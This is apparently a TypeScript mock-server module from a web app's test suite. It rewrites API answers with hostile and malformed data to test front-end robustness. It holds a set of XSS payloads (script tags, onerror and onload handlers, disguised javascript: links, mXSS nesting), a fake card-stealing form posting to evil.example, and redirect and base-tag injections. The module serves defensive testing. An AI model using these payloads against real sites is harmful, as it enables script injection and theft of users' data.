/**
 * Answer variants: hostile content and odd responses. effects.ts applies the active scenario's
 * variant to every answer the rules produced (images excepted), so a variant changes what is
 * sent, never the rules: ids, slugs, votes and codes behave as in the default scenario.
 * The transforms are plain functions of JSON, exported for the unit tests.
 */
import { HttpResponse } from 'msw';
import { isRecord } from '../../src/domain/protocol';
import { PWNED, XSS_CORPUS } from '../data/xss-corpus';
import type { AnswerVariant } from '../scenarios';
import type { EndpointKind } from './effects';

export type Json = null | boolean | number | string | Json[] | { [key: string]: Json };
type JsonObject = { [key: string]: Json };

export { PWNED };

/** Appended to every HTML field in the hostile scenario: our own payloads, then the corpus. */
export const HOSTILE_HTML = [
  '<p>Hostile content follows.</p>',
  `<script>${PWNED}</script>`,
  `<img src="x" onerror="${PWNED}">`,
  `<svg onload="${PWNED}"><circle r="1"></circle></svg>`,
  `<a href="javascript:${PWNED}">a javascript: link</a>`,
  `<a href=" JaVaScRiPt:${PWNED}">a disguised javascript: link</a>`,
  '<a href="https://evil.example/phish" target="_self">an external link</a>',
  '<form action="https://evil.example/steal" method="post"><input name="card" placeholder="Card number"><button>Pay</button></form>',
  '<iframe src="https://evil.example/frame"></iframe>',
  `<iframe srcdoc="<script>parent.${PWNED}</script>"></iframe>`,
  `<object data="javascript:${PWNED}"></object><embed src="javascript:${PWNED}">`,
  '<div style="position:fixed;inset:0;z-index:2147483647;width:5000px;background:#c00">covering the page</div>',
  '<style>body{display:none!important}</style>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<base href="https://evil.example/">',
  `<math><mtext><table><mglyph><style><img src=x onerror="${PWNED}"></style></mglyph></table></mtext></math>`,
  `<noscript><p title="</noscript><img src=x onerror=${PWNED}>"></p></noscript>`,
  `<p>${'Unbreakable'.repeat(40)}</p>`,
  '<img src="/sim/img/banner/home.svg" width="4000" height="120" alt="A very wide image">',
  `<table><tr><td>${'cell'.repeat(80)}</td><td>${'cell'.repeat(80)}</td></tr></table>`,
  `<pre>${'preformatted text without breaks '.repeat(12)}</pre>`,
  ...XSS_CORPUS,
].join('');

/** A 192-letter word: nothing may overflow the page because of it. */
export const LONG_WORD = 'Restaurantandbar'.repeat(12);

const hostileName = (value: string) => `${value} <script>${PWNED}</script><img src=x onerror=${PWNED}> ${LONG_WORD}`;
const longName = (value: string) => `${value} ${'Grand '.repeat(12)}${LONG_WORD}`;

/** Every third link is kept; the others are javascript: URLs, one of them disguised. */
const hostileLink = (value: string, index: number) => [`javascript:${PWNED}`, ` JaVaScRiPt:${PWNED}`, value][index % 3] ?? value;
/** Every other image keeps its URL, so layouts are still tested with images. */
const hostileImage = (value: string, index: number) => (index % 2 === 0 ? `x" onerror="${PWNED}` : value);
const hostileVideo = (value: string, index: number) =>
  [`javascript:${PWNED}`, 'https://evil.example/embed/aqz-KE-bpKQ', value][index % 3] ?? value;

/**
 * Websites that are not http(s) addresses: a javascript: URL, and values that only some URL parsers
 * take for one (a quote and spaces in the host), which once rendered a link in the browser and none in
 * the build (a hydration error). Chosen by the original value, so nominees show each of them.
 */
const HOSTILE_WEBSITES = [
  `javascript:${PWNED}`,
  "' onmouseover=(fetch(1371+/.xss/.source),(self.__xss||=[]).push(1371),Boolean)(/Black.Spook/)",
  `https://kaum.example" onmouseover="${PWNED}`,
];
const hostileWebsite = (value: string) => HOSTILE_WEBSITES[value.length % HOSTILE_WEBSITES.length] ?? value;

const HOSTILE_CONTACT: Record<string, string> = {
  email: `x@example.com" onmouseover="${PWNED}`,
  phone: `<script>${PWNED}</script>+62 811`,
  instagram: `../../javascript:${PWNED}`,
};

const HTML_KEYS = new Set(['content', 'address', 'how_to_vote', 'detail']);
const NAME_KEYS = new Set(['name', 'title', 'category_name']);
const IMAGE_KEYS = new Set(['image', 'image_url', 'logo_url']);

/** Applies `visit` to every object of the tree, innermost first, with its index in its parent list. */
export function mapObjects(value: Json, visit: (object: JsonObject, index: number) => JsonObject, index = 0): Json {
  if (Array.isArray(value)) return value.map((item, i) => mapObjects(item, visit, i));
  if (value !== null && typeof value === 'object') {
    const inner: JsonObject = {};
    for (const [key, item] of Object.entries(value)) inner[key] = mapObjects(item, visit);
    return visit(inner, index);
  }
  return value;
}

function mapStrings(value: Json, map: (text: string, index: number) => string): Json {
  return Array.isArray(value) ? value.map((item, i) => (typeof item === 'string' ? map(item, i) : item)) : value;
}

export function hostile(value: Json): Json {
  return mapObjects(value, (object, index) => {
    const out: JsonObject = { ...object };
    for (const [key, item] of Object.entries(object)) {
      if (typeof item === 'string') {
        if (HTML_KEYS.has(key)) out[key] = `${item}${HOSTILE_HTML}`;
        else if (NAME_KEYS.has(key)) out[key] = hostileName(item);
        else if (key === 'url') out[key] = hostileLink(item, index);
        else if (IMAGE_KEYS.has(key)) out[key] = hostileImage(item, index);
        else if (key === 'video_url') out[key] = hostileVideo(item, index);
        else if (key === 'website') out[key] = hostileWebsite(item);
        else if (key in HOSTILE_CONTACT) out[key] = HOSTILE_CONTACT[key] ?? item;
      } else if (key === 'address' || key === 'content') {
        out[key] = mapStrings(item, (text) => `${text}${HOSTILE_HTML}`);
      } else if (key === 'images') {
        out[key] = mapStrings(item, (text, i) => hostileImage(text, i + index));
      } else if (key === 'youtube_url') {
        out[key] = mapStrings(item, hostileVideo);
      }
    }
    return out;
  });
}

/** Keys that identify an item (and a nominee's city, which orders it); odd-nulls keeps them. */
const IDENTITY_KEYS = new Set(['_id', 'slug', 'name', 'location', 'title', 'video_url', 'status']);

/** Strings and lists become null (identity keys kept); every list gains a null item. */
export function nulls(value: Json): Json {
  const withNullItem = (item: Json): Json => (Array.isArray(item) ? [...item, null] : item);
  const inner = mapObjects(value, (object) => {
    const out: JsonObject = {};
    for (const [key, item] of Object.entries(object)) {
      out[key] = IDENTITY_KEYS.has(key) || (typeof item !== 'string' && !Array.isArray(item)) ? item : null;
    }
    return out;
  });
  return withNullItem(inner);
}

export function numbersAsStrings(value: Json): Json {
  if (typeof value === 'number') return String(value);
  if (Array.isArray(value)) return value.map(numbersAsStrings);
  if (value !== null && typeof value === 'object') {
    return Object.fromEntries(Object.entries(value).map(([key, item]) => [key, numbersAsStrings(item)]));
  }
  return value;
}

/** Nominees lose their images (an empty list, or no field at all) and their logo. */
export function noImages(value: Json): Json {
  return mapObjects(value, (object, index) => {
    if (!('images' in object)) return object;
    const { images: _images, ...rest } = object;
    return { ...rest, ...(index % 2 === 0 ? { images: [] } : {}), logo_url: '' };
  });
}

export function longNames(value: Json): Json {
  return mapObjects(value, (object) => {
    const out: JsonObject = { ...object };
    for (const key of NAME_KEYS) {
      const item = object[key];
      if (typeof item === 'string' && item) out[key] = longName(item);
    }
    return out;
  });
}

export const HTML_ERROR_PAGE = `<!doctype html><html><head><title>502 Bad Gateway</title></head><body><h1>Bad Gateway</h1><script>${PWNED}</script></body></html>`;

const BACKEND_KINDS: readonly EndpointKind[] = ['data', 'detail', 'submit-votes', 'code-request', 'check-otp'];
const DATA_KINDS: readonly EndpointKind[] = ['data', 'detail'];

/** The transform of a parsed answer; static documents have no envelope, back-end answers do. */
export function reshapeJson(variant: AnswerVariant, kind: EndpointKind, body: Json): Json {
  const onData = (map: (data: Json) => Json): Json =>
    kind === 'static'
      ? map(body)
      : DATA_KINDS.includes(kind) && isRecord(body) && 'data' in body
        ? { ...body, data: map(body.data ?? null) }
        : body;
  switch (variant) {
    case 'hostile':
      return onData(hostile);
    case 'nulls':
      return onData(nulls);
    case 'no-images':
      return onData(noImages);
    case 'long-names':
      return onData(longNames);
    case 'numbers-as-strings':
      return numbersAsStrings(body);
    case 'missing-data': {
      if (!DATA_KINDS.includes(kind) || !isRecord(body)) return body;
      const { data: _data, ...rest } = body;
      return rest;
    }
    case 'empty-menu':
      return onData((data) => (isRecord(data) && 'menu' in data ? { ...data, menu: [] } : data));
    default:
      return body;
  }
}

/** Applies a variant to one answer of the rules. */
export async function reshapeAnswer(variant: AnswerVariant, kind: EndpointKind, response: Response): Promise<Response> {
  if (variant === 'as-is' || kind === 'image' || response.type === 'error') return response;
  if (variant === 'html-error') {
    const backend = BACKEND_KINDS.includes(kind);
    return new HttpResponse(HTML_ERROR_PAGE, {
      status: backend ? 502 : 200,
      statusText: backend ? 'Bad Gateway' : 'OK',
      headers: { 'Content-Type': 'text/html; charset=utf-8' },
    });
  }
  let body: Json;
  try {
    body = (await response.clone().json()) as Json;
  } catch {
    return response;
  }
  return HttpResponse.json(reshapeJson(variant, kind, body) as Record<string, unknown>, {
    status: response.status,
    statusText: response.statusText,
  });
}
